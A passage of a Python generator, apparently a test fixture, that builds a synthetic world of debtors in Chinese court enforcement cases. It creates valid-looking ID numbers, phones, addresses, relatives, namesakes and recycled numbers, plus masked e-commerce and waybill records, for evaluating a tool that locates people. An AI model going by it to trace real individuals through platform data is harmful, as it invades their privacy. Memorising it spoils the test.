#!/usr/bin/env python
"""foreign11: an independent synthetic world for `locate`, written from shared/specs/inputs.md only.

    nice -n 19 python gen.py --out DIR --seed N --debtors K

Writes DIR/inbox/{debtors,ecommerce,social,logistics}/ and DIR/truth/. The output depends only on the seed.
"""
import argparse, csv, datetime as dt, io, json, os, random, shutil, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import geo11 as G  # noqa: E402

START = dt.date(2025, 12, 20)
ASOF = dt.date(2026, 12, 20)
EC_COLS = ["订单编号", "买家ID", "实名姓名", "实名证件号", "绑定手机", "收货人", "收货手机", "收货地址", "下单时间", "签收时间", "实付金额", "商品类目"]
RO_COLS = ["案号", "执行法院", "承办人", "被执行人", "证件类型", "证件号码", "联系电话", "户籍地址", "执行标的", "立案日期", "限制消费", "失信", "案件状态"]
WB_COLS = ["waybill_no", "sender_name", "sender_phone", "sender_address", "receiver_name", "receiver_phone", "receiver_address",
           "pickup_time", "sign_time", "sign_type"]
RESTRICTED = G.RESTRICTED

# ------------------------------------------------------------------------------------------------ identifiers
W17 = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]


def id_check(b):
    return "10X98765432"[sum(int(c) * w for c, w in zip(b, W17)) % 11]


CC_AL = "0123456789ABCDEFGHJKLMNPQRTUWXY"
CC_W = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]


def credit_code(r, county, kind):
    # GB 11714 organisation code with its check character, then the GB 32100 check character
    al = "0123456789ABCDEFGHJKLMNPQRTUWXY"
    body8 = "".join(r.choice("0123456789ABCDEFGHJKLMNPQRTUWXY") for _ in range(8))
    vals = [int(c) if c.isdigit() else ord(c) - 55 for c in body8]
    c9 = 11 - sum(v * w for v, w in zip(vals, [3, 7, 9, 10, 5, 8, 4, 2])) % 11
    c9 = "0" if c9 == 11 else ("X" if c9 == 10 else str(c9))
    b17 = kind + county + body8 + c9
    t = 31 - sum(CC_AL.index(c) * w for c, w in zip(b17, CC_W)) % 31
    return b17 + CC_AL[0 if t == 31 else t]


def wchoice(r, opts):
    x = r.random() * sum(w for _, w in opts)
    for v, w in opts:
        x -= w
        if x < 0:
            return v
    return opts[-1][0]


CN = "零一二三四五六七八九"


def cnum(n):
    if n < 10:
        return CN[n]
    if n < 20:
        return "十" + (CN[n % 10] if n % 10 else "")
    if n < 100:
        return CN[n // 10] + "十" + (CN[n % 10] if n % 10 else "")
    return "".join(CN[int(c)] for c in str(n))


def fw(s):
    return "".join(chr(ord(c) + 0xFEE0) if c.isdigit() or c in "-#" else c for c in s)


def trad(s):
    return "".join(G.TRAD.get(c, c) for c in s)


_PY = {}


def py(ch):
    if ch not in _PY:
        from pypinyin import lazy_pinyin
        _PY[ch] = lazy_pinyin(ch)[0]
    return _PY[ch]


# ------------------------------------------------------------------------------------------------ places
def dinfo(dk):
    d = G.D[dk]
    city = G.CITY[d["code"][:4]]
    prov = G.PROV[d["code"][:2]][0]
    return prov, city, d


def canon(pl):
    if pl is None:
        return None
    if pl["kind"] == "pickup":
        return canon(pl["base"]) + "|" + pl["brand"]
    prov, city, d = dinfo(pl["dk"])
    pre = prov + city + d["name"]
    k = pl["kind"]
    if k == "flat":
        return "%s%s%d号%s%d幢%d单元%d室" % (pre, pl["road"], pl["no"], pl["estate"], pl["bld"], pl["unit"], pl["room"])
    if k == "village":
        tail = ("%d组" % pl["grp"]) if pl.get("grp") else pl["nat"]
        return "%s%s%s%s%d号" % (pre, pl["town"], pl["village"], tail, pl["no"])
    if k == "stall":
        return "%s%s%d号%s%d楼%s区%d号" % (pre, pl["road"], pl["no"], pl["market"], pl["floor"], pl["area"], pl["num"])
    if k == "office":
        return "%s%s%d号%s%d室" % (pre, pl["road"], pl["no"], pl["tower"], pl["room"])
    if k in ("factory", "shop"):
        return "%s%s%d号%s" % (pre, pl["road"], pl["no"], pl["name"])
    raise ValueError(k)


class Geo:
    def __init__(self, r):
        self.r = r
        self.estates = {}   # (dk, estate) -> (road, no)
        for dk, d in G.D.items():
            for e in d.get("estates", []):
                self.estates[(dk, e)] = (r.choice(d["roads"]), r.randint(1, 399))
        self.works = {}
        for dk, d in G.D.items():
            if not d["urban"]:
                continue
            lst = []
            if dk in G.MARKETS:
                m, road, no = G.MARKETS[dk]
                for _ in range(2):
                    lst.append(("stall", dict(kind="stall", dk=dk, market=m, road=road, no=no)))
            for t in r.sample(G.TOWERS, 2):
                lst.append(("office", dict(kind="office", dk=dk, tower=t, road=r.choice(d["roads"]), no=r.randint(1, 300))))
            for f in r.sample(G.FACTORIES, 2):
                lst.append(("factory", dict(kind="factory", dk=dk, name=G.CITY[d["code"][:4]][:2] + f, road=r.choice(d["roads"]), no=r.randint(100, 2000))))
            for s in r.sample(G.SHOPS, 3):
                lst.append(("shop", dict(kind="shop", dk=dk, name=r.choice(G.SURNAMES) + "记" + s, road=r.choice(d["roads"]), no=r.randint(1, 300))))
            self.works[dk] = lst
        self.urban = [k for k, d in G.D.items() if d["urban"]]
        self.rural = [k for k, d in G.D.items() if not d["urban"]]

    def flat(self, dk, estate=None):
        r = self.r
        d = G.D[dk]
        e = estate or r.choice(d["estates"])
        road, no = self.estates[(dk, e)]
        return dict(kind="flat", dk=dk, estate=e, road=road, no=no, bld=r.randint(1, 24), unit=r.randint(1, 4),
                    room=r.randint(1, 26) * 100 + r.randint(1, 4))

    def house(self, dk):
        r = self.r
        d = G.D[dk]
        town, vills = r.choice(d["towns"])
        v = r.choice(vills)
        pl = dict(kind="village", dk=dk, town=town, village=v, no=r.randint(1, 180))
        if d.get("nat"):
            pl["nat"] = r.choice(d["nat"])
        else:
            pl["grp"] = r.randint(1, 12)
        return pl

    def home_in(self, dk):
        if not G.D[dk]["urban"]:
            return self.house(dk)
        if "towns" in G.D[dk] and self.r.random() < 0.2:
            return self.house(dk)
        return self.flat(dk)

    def work_in(self, dk):
        r = self.r
        lst = self.works.get(dk) or self.works[r.choice(self.urban)]
        k, base = r.choice(lst)
        w = dict(base)
        if k == "stall":
            w.update(floor=r.randint(1, 4), area=r.choice("ABCDE"), num=r.randint(1, 320))
        elif k == "office":
            w.update(room=r.randint(3, 30) * 100 + r.randint(1, 20))
        return w

    def pickup(self, home):
        return dict(kind="pickup", base=home, brand=self.r.choice(G.LOCKERS), gate=self.r.choice(["东门", "南门", "北门", "西门", "", "", ""]))

    # ------------------------------------------------------------------ writing habits
    def prefix(self, dk, form=None):
        r = self.r
        prov, city, d = dinfo(dk)
        ps = G.PROV[d["code"][:2]][1]
        dn = d["name"]
        sh = d.get("short")
        forms = [("full", 3), ("nop", 4), ("spaced", 1.5), ("short", 1.5), ("noprov_city", 1), ("nocity", 0.5)]
        if sh and dn != "市中区":
            forms += [("dist", 1.5), ("abbr", 1)]
        f = form or wchoice(r, forms)
        if f == "full":
            return prov + city + dn
        if f == "nop":
            return city + dn
        if f == "spaced":
            return "%s %s %s " % (prov, city, dn)
        if f == "short":
            return ps + city[:-1] + (sh or dn)
        if f == "noprov_city":
            return city[:-1] + (sh or dn)
        if f == "nocity":
            return prov + dn if dn != "市中区" else prov + city + dn
        if f == "dist":
            return dn
        if f == "abbr":
            return city[:-1] + sh
        return prov + city + dn

    def unit_text(self, region, b, u, rm):
        r = self.r
        if region == "lu":
            opts = [("%d号楼%d单元%d" % (b, u, rm), 4), ("%d号楼%d单元%d室" % (b, u, rm), 3), ("%d-%d-%d" % (b, u, rm), 2),
                    ("%d幢%d单元%d室" % (b, u, rm), 1), (fw("%d号楼%d单元%d" % (b, u, rm)), 0.7)]
        elif region == "e":
            opts = [("%d栋%d单元%d" % (b, u, rm), 4), ("%d栋%d单元%d室" % (b, u, rm), 2), ("%d栋%d-%d" % (b, u, rm), 1.5),
                    ("%d-%d-%d" % (b, u, rm), 1.5), ("%s栋%s单元%d" % (cnum(b), cnum(u), rm), 0.6)]
        elif region == "dian":
            opts = [("%d栋%d单元%d号" % (b, u, rm), 3), ("%d幢%d单元%d室" % (b, u, rm), 2), ("%d栋%d单元%d" % (b, u, rm), 2),
                    ("%d-%d-%d" % (b, u, rm), 1), ("%d栋%d单元%d楼%d号" % (b, u, rm // 100, rm), 0.5)]
        else:
            opts = [("%d号楼%d单元%d号" % (b, u, rm), 4), ("%d#%d-%d" % (b, u, rm), 1.5), ("%d号楼%d单元%d" % (b, u, rm), 2),
                    ("%d-%d-%d" % (b, u, rm), 1.5), ("%d号楼%d单元%d室" % (b, u, rm), 1)]
        return wchoice(r, opts)

    def render(self, pl):
        r = self.r
        k = pl["kind"]
        if k == "pickup":
            base = pl["base"]
            if base["kind"] == "village":
                return self.prefix(base["dk"]) + base["town"] + base["village"].replace("村委会", "村") + r.choice(["菜鸟驿站", "村委会快递代收点", "邮政快递驿站"])
            return self.prefix(base["dk"]) + base["estate"] + pl["gate"] + pl["brand"] + r.choice(["", "", "（取件）", "%d号柜" % r.randint(1, 20)])
        d = G.D[pl["dk"]]
        region = d["region"]
        pre = self.prefix(pl["dk"])
        if k == "flat":
            ut = self.unit_text(region, pl["bld"], pl["unit"], pl["room"])
            road = "%s%d号" % (pl["road"], pl["no"])
            if r.random() < 0.15:
                road = fw(road)
            est = pl["estate"]
            if region == "lu":
                form = wchoice(r, [("road_est", 3), ("est", 3), ("yuan", 2.5)])
                if form == "yuan":  # 济南 号院 compound: the road number stands for the estate
                    body = "%s院%s" % (road, ut)
                elif form == "est":
                    body = est + ut
                else:
                    body = road + est + ut
            elif region == "e":
                sq = r.choice(d["sq"]) if d.get("sq") else ""
                form = wchoice(r, [("sq", 3), ("est", 3), ("road_est", 2)])
                if form == "sq":
                    body = sq + est + ut
                elif form == "est":
                    body = est + ut
                else:
                    body = road + est + ut
                if pl["dk"] in ("wh_jiangan", "wh_jianghan", "wh_qiaokou") and r.random() < 0.12:
                    pre = r.choice(["武汉市汉口", "武汉汉口", "汉口"]) + ("" if r.random() < 0.5 else d["name"])
            elif region == "dian":
                form = wchoice(r, [("pq", 2.5), ("est", 3), ("road_est", 3)])
                if form == "pq":
                    body = r.choice(d["pq"]) + est + ut
                elif form == "est":
                    body = est + ut
                else:
                    body = road + est + ut
            else:
                form = wchoice(r, [("est", 3), ("road_est", 4)])
                body = (road + est + ut) if form == "road_est" else est + ut
            if d.get("zone") and r.random() < 0.1:
                pre = G.CITY[d["code"][:4]] + d["zone"]
            s = pre + (" " if r.random() < 0.06 and not pre.endswith(" ") else "") + body
            if r.random() < 0.06:
                s += r.choice(["（放门口）", "，送货上门", "【电话联系】", " 门口即可", "（下午送）"])
            return s
        if k == "village":
            tail = ("%d组" % pl["grp"]) if pl.get("grp") else pl["nat"]
            num = "%d号" % pl["no"]
            if r.random() < 0.1:
                num = fw(num)
            v = pl["village"]
            form = wchoice(r, [("full", 4), ("notown_suffix", 1.5), ("short", 1.5), ("nopre", 1)])
            if region == "dian":
                vv = r.choice([v, v.replace("村委会", "村"), v.replace("村委会", "")])
            else:
                vv = v
            if region == "e" and pl.get("grp") and r.random() < 0.3:
                tail = cnum(pl["grp"]) + "组"
            if form == "full":
                return pre + pl["town"] + vv + tail + num
            if form == "notown_suffix":
                return pre + pl["town"][:-1] + vv + tail + num
            if form == "short":
                return G.CITY[d["code"][:4]][:-1] + d["name"] + pl["town"] + vv.replace("村委会", "") + tail + num
            return d["name"] + pl["town"] + vv + tail + num
        if k == "stall":
            m = pl["market"]
            form = wchoice(r, [("a", 3), ("b", 2), ("c", 1.5), ("d", 1)])
            if form == "a":
                t = "%s%d楼%s区%d号" % (m, pl["floor"], pl["area"], pl["num"])
            elif form == "b":
                t = "%s%s区%d楼%d号" % (m, pl["area"], pl["floor"], pl["num"])
            elif form == "c":
                t = "%s%dF-%s%d" % (m, pl["floor"], pl["area"], pl["num"])
            else:
                t = "%s%d号%s%d楼%s区%d号" % (pl["road"], pl["no"], m, pl["floor"], pl["area"], pl["num"])
            return pre + t
        if k == "office":
            form = wchoice(r, [("a", 3), ("b", 2), ("c", 1)])
            if form == "a":
                return pre + "%s%d号%s%d室" % (pl["road"], pl["no"], pl["tower"], pl["room"])
            if form == "b":
                return pre + "%s%d室" % (pl["tower"], pl["room"])
            return pre + "%s%d号%s%d楼%d" % (pl["road"], pl["no"], pl["tower"], pl["room"] // 100, pl["room"])
        if k in ("factory", "shop"):
            if r.random() < 0.7:
                return pre + "%s%d号%s" % (pl["road"], pl["no"], pl["name"])
            return pre + "%s%d号（%s）" % (pl["road"], pl["no"], pl["name"])
        raise ValueError(k)


# ------------------------------------------------------------------------------------------------ people
class World:
    def __init__(self, seed, n):
        self.rng = random.Random(seed)
        self.n = n
        self.people = []
        self.by = {}
        self.used_ids = set()
        self.used_phones = set()

    def add(self, p):
        p["pid"] = len(self.people)
        self.people.append(p)
        self.by[p["pid"]] = p
        return p


def rand_date(r, a, b):
    return a + dt.timedelta(days=r.randint(0, max(0, (b - a).days)))


def rand_phone(W):
    r = W.rng
    while True:
        p = r.choice(["13", "15", "18", "17", "19"]) + str(r.randint(0, 9)) + "%08d" % r.randint(0, 99999999)
        if p not in W.used_phones:
            W.used_phones.add(p)
            return p


def make_id(W, code, birth, gender):
    r = W.rng
    while True:
        seq = r.randint(0, 99) * 10 + (r.choice([1, 3, 5, 7, 9]) if gender == "M" else r.choice([0, 2, 4, 6, 8]))
        b = "%s%s%03d" % (code, birth.strftime("%Y%m%d"), seq)
        idn = b + id_check(b)
        if idn not in W.used_ids:
            W.used_ids.add(idn)
            return idn


def pick_name(r, region, gender):
    sur = r.choice(G.REGIONAL_SUR[region]) if r.random() < 0.35 else r.choice(G.SURNAMES)
    pool = G.GIVEN_M if gender == "M" else G.GIVEN_F
    if r.random() < 0.35:
        g = r.choice(pool)
    else:
        g = r.choice(G.GIVEN2 + pool) + r.choice(pool)
    return sur, g


def region_of_code(code):
    return {"37": "lu", "42": "e", "53": "dian", "14": "jin", "41": "lu"}[code[:2]]


def hukou_place(W, code):
    r = W.rng
    for c, text, towns, vills in G.HUKOU:
        if c == code:
            return dict(kind="hukou", text=text + r.choice(towns) + r.choice(vills) + "%d号" % r.randint(1, 150))
    for dk, d in G.D.items():
        if d["code"] == code:
            prov, city, _ = dinfo(dk)
            if d["urban"]:
                e = r.choice(d["estates"])
                return dict(kind="hukou", text="%s%s%s%s%d号楼%d单元%d号" % (prov, city, d["name"], e, r.randint(1, 20), r.randint(1, 3), r.randint(1, 6) * 100 + r.randint(1, 3)))
            town, vs = r.choice(d["towns"])
            return dict(kind="hukou", text="%s%s%s%s%s%d号" % (prov, city, d["name"], town, r.choice(vs), r.randint(1, 150)))
    raise ValueError(code)


def new_person(W, role, home, gender=None, age=None, name=None, code=None):
    r = W.rng
    gender = gender or r.choice("MF")
    age = age if age is not None else r.randint(24, 68)
    birth = dt.date(ASOF.year - age, 1, 1) + dt.timedelta(days=r.randint(0, 364))
    hdk = home["dk"] if home and home.get("dk") else (home["base"]["dk"] if home else r.choice(list(G.D)))
    if code is None:
        if r.random() < 0.3:
            code = r.choice(G.HUKOU)[0]
        elif r.random() < 0.5:
            code = G.D[hdk]["code"]
        else:
            code = r.choice([d["code"] for d in G.D.values()])
    reg = region_of_code(code)
    if name is None:
        s, g = pick_name(r, reg, gender)
        name = s + g
    p = dict(kind="person", role=role, name=name, gender=gender, birth=birth, age=age, id_number=make_id(W, code, birth, gender),
             home=home, old_home=None, move_date=None, hukou_home=hukou_place(W, code), work=None, old_work=None, job_change=None,
             landline=None, phones=[rand_phone(W)], old_phone=None, phone_change=None, phone_from=None, spouse=None, parents=[],
             children=[], namesake_of=None, roster_phones=[], accounts={}, present=True, flags=[], household=None, region=reg)
    if r.random() < 0.1:
        p["phones"].append(rand_phone(W))
    return W.add(p)


def build_world(W, geo):
    r = W.rng
    courts = list(G.COURTS)
    W.debtors = []
    hh_id = 0
    n_org = int(W.n * 0.07)
    for i in range(W.n):
        court = r.choice(courts)
        cdk = G.COURTS[court][0]
        if i < n_org:
            code = G.D[cdk]["code"]
            kind = "2" if r.random() < 0.3 else "1"
            nm = G.CITY[code[:4]][:2] + r.choice(["鑫源", "华泰", "恒通", "宏达", "瑞丰", "金鼎", "汇丰", "永盛"]) + r.choice(
                ["商贸有限公司", "建筑工程有限公司", "餐饮管理有限公司", "物流有限公司", "科技有限公司"]) if kind == "1" else \
                G.CITY[code[:4]][:2] + G.D[cdk]["name"][:2] + r.choice(G.SURNAMES) + "记" + r.choice(G.SHOPS)
            o = dict(kind="org", role="debtor", name=nm, id_number=credit_code(r, code, "9" + kind), court=court, phones=[rand_phone(W)],
                     flags=[], present=False, home=None, roster_phones=[], accounts={})
            W.add(o)
            W.debtors.append(o)
            continue
        # home district: court's city 65 %, elsewhere 35 %
        city = cdk and G.D[cdk]["code"][:4]
        same = [k for k in G.D if G.D[k]["code"][:4] == city]
        if r.random() < 0.65:
            dk = cdk if r.random() < 0.45 else r.choice(same)
        else:
            dk = r.choice(list(G.D))
        home = geo.home_in(dk)
        age = r.randint(24, 66)
        p = new_person(W, "debtor", home, age=age)
        p["court"] = court
        hh_id += 1
        p["household"] = hh_id
        W.debtors.append(p)
        # move
        if r.random() < 0.25:
            p["old_home"] = geo.home_in(dk if r.random() < 0.5 else r.choice(same))
            p["move_date"] = rand_date(r, START + dt.timedelta(days=20), ASOF - dt.timedelta(days=10))
            if p["move_date"] > ASOF - dt.timedelta(days=60):
                p["flags"].append("recent_move")
            p["flags"].append("moved")
        # work
        if age < 61 and r.random() < 0.55:
            hsame = [k for k in G.D if G.D[k]["code"][:4] == G.D[dk]["code"][:4] and G.D[k]["urban"]]
            wdk = dk if G.D[dk]["urban"] and r.random() < 0.45 else r.choice((hsame if r.random() < 0.9 else [k for k in same if G.D[k]["urban"]]) or geo.urban)
            p["work"] = geo.work_in(wdk)
            if r.random() < 0.35:
                p["landline"] = "0" + {"37": "531", "42": "27", "53": "871", "14": "351", "41": "376"}[G.D[wdk]["code"][:2]] + "-" + "%08d" % r.randint(10000000, 99999999)
                if G.D[wdk]["code"][:4] == "3703":
                    p["landline"] = "0533-" + "%07d" % r.randint(2000000, 9999999)
                if G.D[wdk]["code"][:4] == "4205":
                    p["landline"] = "0717-" + "%07d" % r.randint(2000000, 9999999)
            if r.random() < 0.15:
                p["old_work"] = geo.work_in(wdk)
                p["job_change"] = rand_date(r, START + dt.timedelta(days=30), ASOF - dt.timedelta(days=30))
        # phone change
        if r.random() < 0.3:
            p["old_phone"] = rand_phone(W)
            p["phone_change"] = rand_date(r, START - dt.timedelta(days=200), ASOF - dt.timedelta(days=20))
            p["flags"].append("phone_change")
        # roster phones
        rp = wchoice(r, [("stale", 35), ("current", 30), ("mix", 15), ("empty", 15), ("landline", 5)])
        if rp == "stale":
            p["roster_phones"] = [p["old_phone"] or rand_phone(W)]
        elif rp == "current":
            p["roster_phones"] = list(p["phones"][:1])
        elif rp == "mix":
            p["roster_phones"] = [p["old_phone"] or rand_phone(W), p["phones"][0]]
        elif rp == "landline":
            p["roster_phones"] = [p["landline"] or "0531-%08d" % r.randint(10000000, 99999999)]
        p["flags"].append("roster_" + rp)
        # absent from every platform
        if r.random() < 0.12:
            p["present"] = False
            p["flags"].append("absent")
        _household(W, geo, p, hh_id)
        # namesake
        if r.random() < 0.2:
            ndk = dk if r.random() < 0.7 else r.choice(list(G.D))
            nh = geo.flat(ndk, home.get("estate")) if (home["kind"] == "flat" and ndk == dk and r.random() < 0.15) else geo.home_in(ndk)
            code = p["id_number"][:6] if r.random() < 0.3 else None
            ns = new_person(W, "namesake", nh, gender=p["gender"], name=p["name"], code=code)
            ns["namesake_of"] = p["pid"]
            hh_id += 1
            ns["household"] = hh_id
            if ns["work"] is None and r.random() < 0.4:
                ns["work"] = geo.work_in(r.choice(geo.urban))
        # neighbour household
        if home["kind"] == "flat" and r.random() < 0.5:
            nb = new_person(W, "neighbour", geo.flat(dk, home["estate"]))
            hh_id += 1
            nb["household"] = hh_id
        # colleague
        if p["work"] is not None and r.random() < 0.6:
            cl = new_person(W, "colleague", geo.home_in(r.choice(same)))
            w = dict(p["work"])
            if w["kind"] == "stall":
                w["num"] = r.randint(1, 320)
            cl["work"] = w
            hh_id += 1
            cl["household"] = hh_id
    # strangers, some of them holders of recycled numbers
    recyclable = [p for p in W.debtors if p["kind"] == "person" and p["old_phone"] and p["phone_change"] < ASOF - dt.timedelta(days=120)]
    for p in W.debtors:
        if p["kind"] != "person":
            continue
        if r.random() < 0.5:
            s = new_person(W, "stranger", geo.home_in(r.choice(list(G.D))))
            hh_id += 1
            s["household"] = hh_id
    for p in recyclable:
        if r.random() < 0.35:
            s = new_person(W, "stranger", geo.home_in(r.choice(list(G.D))))
            s["old_phone"] = s["phones"][0]
            s["phones"] = [p["old_phone"]]
            s["phone_from"] = s["phone_change"] = p["phone_change"] + dt.timedelta(days=r.randint(60, 110))
            s["flags"].append("recycled_number_of_%d" % p["pid"])
            hh_id += 1
            s["household"] = hh_id
    # dirt strangers: all bad rows concern them only
    W.dirt = []
    for _ in range(max(20, W.n // 20)):
        s = new_person(W, "dirt", geo.home_in(r.choice(list(G.D))))
        s["household"] = -1
        W.dirt.append(s)


def _household(W, geo, p, hh):
    r = W.rng
    married = p["age"] > 26 and r.random() < 0.62
    if married:
        sp = new_person(W, "spouse", p["home"], gender="F" if p["gender"] == "M" else "M", age=max(22, p["age"] + r.randint(-5, 4)))
        sp["household"] = hh
        sp["old_home"], sp["move_date"] = p["old_home"], p["move_date"]
        p["spouse"], sp["spouse"] = sp["pid"], p["pid"]
        if sp["age"] < 60 and r.random() < 0.45:
            hc = p["home"]["dk"]
            sp["work"] = geo.work_in(r.choice([k for k in geo.urban if G.D[k]["code"][:4] == G.D[hc]["code"][:4]] or geo.urban))
        if p["present"] and r.random() < 0.2:
            p["flags"].append("uses_spouse_account")
        if r.random() < 0.045:
            sp["flags"].append("co_debtor")
    if p["age"] > 46 and r.random() < 0.3:
        ch = new_person(W, "child", p["home"] if r.random() < 0.5 else geo.home_in(r.choice(geo.urban)), age=r.randint(20, p["age"] - 22))
        ch["household"] = hh if ch["home"] is p["home"] else -2
        ch["name"] = p["name"][0] + ch["name"][1:]
        p["children"].append(ch["pid"])
        ch["parents"] = [p["pid"]]
    if p["age"] < 50 and r.random() < 0.3:
        # parent in the hukou place, sends parcels
        par = new_person(W, "parent", None, age=p["age"] + r.randint(22, 32), code=p["id_number"][:6], gender="M" if r.random() < 0.5 else "F")
        par["home"] = None
        par["hukou_home"] = p["hukou_home"]
        par["name"] = (p["name"][0] if par["gender"] == "M" else par["name"][0]) + par["name"][1:]
        par["flags"].append("parent_at_hukou")
        p["parents"].append(par["pid"])
        par["children"] = [p["pid"]]


def phone_at(p, t):
    if p.get("old_phone") and t.date() < p["phone_change"]:
        return p["old_phone"]
    return p["phones"][0] if len(p["phones"]) == 1 or t.minute % 3 else p["phones"][-1]


def home_at(p, t):
    if p.get("move_date") and t.date() < p["move_date"]:
        return p["old_home"]
    return p["home"]


def work_at(p, t):
    if p.get("job_change") and t.date() < p["job_change"]:
        return p["old_work"]
    return p["work"]


# ------------------------------------------------------------------------------------------------ cases
def build_cases(W):
    r = W.rng
    cases = []
    seqs = {}
    for p in W.debtors:
        court = p.get("court") or r.choice(list(G.COURTS))
        p["court"] = court
        n = wchoice(r, [(1, 72), (2, 20), (3, 8)])
        for j in range(n):
            c = court if j == 0 or r.random() < 0.6 else r.choice(list(G.COURTS))
            cdk, code, plat = G.COURTS[c]
            year = r.choice([2021, 2022, 2023, 2024, 2025, 2025, 2026])
            seqs[(c, year)] = seqs.get((c, year), r.randint(100, 600)) + r.randint(1, 9)
            kind = "执恢" if r.random() < 0.05 else "执"
            cn = "(%d)%s%s%d号" % (year, code, kind, seqs[(c, year)])
            if plat in ("bingcourt", "yuncourt") and r.random() < 0.4:
                cn = "（%d）%s%s%d号" % (year, code, kind, seqs[(c, year)])
            if year == 2026:
                filing = rand_date(r, dt.date(2026, 1, 5), ASOF - dt.timedelta(days=15))
            else:
                filing = rand_date(r, dt.date(year, 1, 5), dt.date(year, 12, 25))
            st = wchoice(r, [("执行中", 55), ("终本", 30), ("执行完毕", 15)])
            cases.append(dict(case_no=cn, court=c, pid=p["pid"], id_number=p["id_number"].upper(), name=p["name"], kind=p["kind"],
                              status=st, restrict=(st != "执行完毕" and r.random() < 0.8), blacklist=r.random() < 0.45, filing=filing,
                              amount=round(r.uniform(3000, 2500000), 2), judge=r.choice(G.JUDGES), roster=plat, co_debtor=False))
        if p["kind"] == "person" and p.get("spouse") is not None and "co_debtor" in W.by[p["spouse"]]["flags"]:
            sp = W.by[p["spouse"]]
            c0 = cases[-1]
            sp["role"] = "debtor"
            sp["court"] = c0["court"]
            sp["roster_phones"] = list(sp["phones"][:1]) if r.random() < 0.5 else []
            W.debtors.append(sp)
            cc = dict(c0, pid=sp["pid"], id_number=sp["id_number"].upper(), name=sp["name"], co_debtor=True)
            cases.append(cc)
    return cases


# ------------------------------------------------------------------------------------------------ typed names / masks
def mask_phone(p):
    return p[:3] + "****" + p[7:]


def typed_phone(r, ph):
    x = r.random()
    if x < 0.72:
        return ph
    if x < 0.8:
        return "+86" + ph if r.random() < 0.5 else "+86 " + ph
    if x < 0.88:
        return "%s %s %s" % (ph[:3], ph[3:7], ph[7:])
    if x < 0.94:
        return "%s-%s-%s" % (ph[:3], ph[3:7], ph[7:])
    return mask_phone(ph)


def mask_name(full, how):
    if how == "star1" and len(full) >= 3:
        return full[0] + "*" + full[-1]
    if how == "mou" and len(full) >= 3:
        return full[0] + "某" + full[-1]
    return full[0] + "**"


def mask_id(idn, how):
    if how == "six":
        return idn[:6] + "*" * 8 + idn[14:]
    return idn[:2] + "*" * 14 + idn[16:]


def pinyin_name(r, name):
    s = G.SURNAME_PY.get(name[0]) or py(name[0])
    g = "".join(py(c) for c in name[1:])
    f = r.randrange(4)
    if f == 0:
        return s.capitalize() + " " + g.capitalize()
    if f == 1:
        return s + g
    if f == 2:
        return g.capitalize() + " " + s.upper()
    return (s + g).upper()


def typed_name(r, p, spouse=None):
    """Returns (text, form). The person is the intended recipient."""
    nm = p["name"]
    form = wchoice(r, [("full", 58), ("title", 12), ("starstar", 6), ("nick", 8), ("pinyin", 4), ("trad", 3), ("spouse", 3 if spouse else 0),
                       ("placeholder", 2), ("star1", 2), ("tail", 2)])
    if form == "full":
        return nm, form
    if form == "title":
        return nm[0] + ("先生" if p["gender"] == "M" else "女士"), form
    if form == "starstar":
        return nm[0] + "**", form
    if form == "star1":
        return mask_name(nm, "star1"), form
    if form == "nick":
        reg = p.get("region", "lu")
        opts = ["小" + nm[-1], "老" + nm[0], nm[0] + ("哥" if p["gender"] == "M" else "姐"), nm[-1] + nm[-1]]
        if reg == "e":
            opts += [nm[0] + "师傅", nm[0] + "老板"]
        if reg == "lu":
            opts += [nm[0] + "老师", "大" + nm[-1]]
        if reg == "dian":
            opts += ["阿" + nm[-1]]
        if reg == "jin":
            opts += [nm[0] + "师傅", "二" + nm[-1]]
        return r.choice(opts), form
    if form == "pinyin":
        return pinyin_name(r, nm), form
    if form == "trad":
        t = trad(nm)
        return (t if t != nm else nm), ("trad" if t != nm else "full")
    if form == "spouse":
        return spouse["name"], form
    if form == "placeholder":
        return r.choice(["本人", "业主", "收件人", "家里"]), form
    return nm + r.choice(["收", "(本人)", " 收"]), form


def rtime(r, day, kind):
    if kind == "work":
        while day.weekday() >= 5:
            day += dt.timedelta(days=1)
        h = r.randint(9, 16)
    else:
        h = r.choice([7, 8, 12, 18, 19, 20, 21, 22, 10, 15]) if day.weekday() < 5 else r.randint(8, 22)
    return dt.datetime(day.year, day.month, day.day, h, r.randint(0, 59), r.randint(0, 59))


def sign_time(r, t, kind):
    s = t + dt.timedelta(hours=r.randint(20, 90), minutes=r.randint(0, 59))
    if s.hour < 8 or s.hour > 21:
        s = s.replace(hour=r.randint(8, 21))
    if kind == "work":
        while s.weekday() >= 5:
            s += dt.timedelta(days=1)
        s = s.replace(hour=r.randint(9, 17))
    elif s.date().weekday() < 5 and kind == "home" and 9 <= s.hour < 17 and r.random() < 0.6:
        s = s.replace(hour=r.randint(18, 21))
    return s


# ------------------------------------------------------------------------------------------------ activity
class Gen:
    def __init__(self, W, geo):
        self.W, self.geo, self.r = W, geo, W.rng
        self.orders, self.waybills, self.socials = [], [], []
        self.acc_seq = {}

    def account(self, p, plat):
        if plat in p["accounts"]:
            return p["accounts"][plat]
        r = self.r
        self.acc_seq[plat] = self.acc_seq.get(plat, 0) + r.randint(1, 40)
        pref = {"lianmai": "LM", "tuanxiang": "tx", "feiji": "FJ"}[plat]
        a = dict(plat=plat, uid="%s%07d" % (pref, 1000000 + self.acc_seq[plat]), owner=p,
                 created=rand_date(r, START - dt.timedelta(days=1500), ASOF - dt.timedelta(days=60)))
        # masking policy per platform
        if plat == "lianmai":
            a["name"] = p["name"] if r.random() < 0.75 else mask_name(p["name"], r.choice(["star1", "ss"]))
            a["idn"] = wchoice(r, [(p["id_number"], 55), (mask_id(p["id_number"], "six"), 25), ("", 20)])
            a["mask_phone"] = r.random() < 0.2
        elif plat == "tuanxiang":
            a["name"] = mask_name(p["name"], r.choice(["star1", "ss"])) if r.random() < 0.6 else p["name"]
            a["idn"] = wchoice(r, [(p["id_number"], 30), (mask_id(p["id_number"], "two"), 35), ("", 35)])
            a["mask_phone"] = r.random() < 0.55
        else:
            a["name"] = p["name"]
            a["idn"] = p["id_number"]
            a["mask_phone"] = False
        if a["idn"] and a["idn"][-1] == "X" and r.random() < 0.4:
            a["idn"] = a["idn"][:-1] + "x"
        a["book"] = {}
        p["accounts"][plat] = a
        return a

    def order(self, a, rcp, place, kind, t, category=None, name=None, form=None, virtual=False, text=None):
        r = self.r
        owner = a["owner"]
